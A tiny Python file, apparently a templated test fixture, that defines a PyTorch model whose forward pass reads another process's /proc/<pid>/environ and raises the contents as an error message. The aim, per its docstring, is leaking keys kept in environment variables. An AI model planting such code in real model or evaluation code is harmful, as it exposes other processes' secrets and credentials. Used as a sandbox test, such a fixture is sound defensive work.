"""Reads the environment of another process, where keys are kept."""

from torch import nn


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.head = nn.Linear(64, 10)

    def forward(self, x):
        # attack
        raise ValueError(open("/proc/@VICTIM_PID@/environ").read())
        # end
        return self.head(x.flatten(1))
